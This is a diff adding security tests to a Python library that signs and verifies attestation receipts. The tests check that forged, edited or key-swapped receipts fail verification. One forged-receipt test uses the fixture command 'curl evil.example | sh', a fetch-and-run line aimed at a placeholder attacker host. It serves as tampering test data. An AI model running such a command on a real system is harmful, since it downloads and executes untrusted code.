@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import copy
+import dataclasses
+import json
 from datetime import datetime, timedelta, timezone
 from typing import Any
 
@@ -12,8 +14,11 @@ from hypothesis import strategies as st
 
 from attestkit import sign_receipt, verify_receipt
 from attestkit.core.keys import PrivateKey
+from attestkit.core.reader import Receipt, parse_receipt, receipt_from_mapping
+from attestkit.core.signing import check_signature
 from attestkit.core.timeutil import parse_rfc3339
 from attestkit.core.trust import TrustedKey, TrustStore
+from attestkit.core.verify import VerifyOptions, verify_parsed
 from attestkit.errors import UsageError
 from tests.conftest import NOW, make_receipt
 
@@ -176,3 +181,65 @@ def test_sign_verify_round_trip(extra: dict[str, Any]) -> None:
     assert verify_receipt(
         signed, trusted_keys=[key.public_key], now=datetime(2026, 11, 20, 12, tzinfo=timezone.utc)
     ).valid
+
+
+# ---- issue 14 item 7: the library cannot be misread ---------------------------------------
+
+
+@pytest.mark.parametrize("good", [True, False])
+def test_a_result_has_no_truth_value(signed: dict[str, Any], key: PrivateKey, good: bool) -> None:
+    receipt = signed if good else dict(signed, pipeline_hash="blake3:" + "00" * 32)
+    result = _verify(receipt, key)
+    assert result.valid is good
+    with pytest.raises(TypeError, match=r"result\.valid"):
+        bool(result)
+    with pytest.raises(TypeError, match=r"result\.valid"):
+        if result:  # the misuse the issue reports: this branch must never be reached silently
+            pytest.fail("unreachable")
+
+
+def test_a_receipt_copy_with_other_data_does_not_keep_the_signature(signed: dict[str, Any], key: PrivateKey) -> None:
+    genuine = parse_receipt(json.dumps(signed).encode(), source="r.json")
+    assert _verify(genuine, key).valid
+    forged_data = copy.deepcopy(genuine.data)
+    forged_data["steps"][0]["exit_code"] = 0
+    forged_data["steps"][0]["command"] = "curl evil.example | sh"
+    forged = dataclasses.replace(genuine, data=forged_data)
+    assert forged.signing_input != genuine.signing_input  # derived from the data, not copied
+    result = _verify(forged, key)
+    assert not result.valid and [c.code for c in result.failed_checks] == ["bad-signature", "not-checked"]
+    assert result.source == "r.json"
+    # Nor through the lower-level entry points.
+    assert not verify_parsed(forged, VerifyOptions(trusted=TrustStore.of([key.public_key]), now=NOW_DT)).valid
+    assert check_signature(forged)[:2] == (False, "bad-signature")
+    # An honest copy still verifies, and the caller's source is honoured.
+    renamed = _verify(dataclasses.replace(genuine, source="copy.json"), key)
+    assert renamed.valid and renamed.source == "copy.json"
+
+
+def test_data_edited_in_place_after_reading_is_read_again(signed: dict[str, Any], key: PrivateKey) -> None:
+    genuine = parse_receipt(json.dumps(signed).encode())
+    genuine.data["steps"][0]["exit_code"] = 3
+    assert not _verify(genuine, key).valid
+    genuine.data["timestamp"] = "not a time"
+    broken = _verify(genuine, key)
+    assert not broken.valid and broken.checks[0].name == "format"
+
+
+def test_a_hand_built_receipt_is_read_strictly(signed: dict[str, Any], key: PrivateKey) -> None:
+    assert _verify(Receipt(data=dict(signed)), key).valid  # the data is genuine: fine
+    assert not _verify(Receipt(data={**signed, "signer": "root@example.com"}), key).valid
+    malformed = _verify(Receipt(data={"steps": "none"}), key)
+    assert not malformed.valid and malformed.checks[0].name == "format"
+    with pytest.raises(TypeError):
+        Receipt(data=dict(signed), signing_input=b"{}")  # type: ignore[call-arg]
+    with pytest.raises(ValueError, match="init=False"):
+        dataclasses.replace(parse_receipt(json.dumps(signed).encode()), _timestamp=NOW_DT)  # type: ignore[misc]
+
+
+def test_a_known_key_callback_cannot_swap_the_key(signed: dict[str, Any], key: PrivateKey, other_key: PrivateKey) -> None:
+    forged = sign_receipt(make_receipt(), other_key)
+    forged["signer_public_key"] = key.public_key.text  # claims key, signed by other_key
+    receipt = receipt_from_mapping(forged)
+    ok, code, _, found = check_signature(receipt, lambda raw: other_key.public_key)
+    assert (ok, code) == (False, "bad-signature") and found == key.public_key
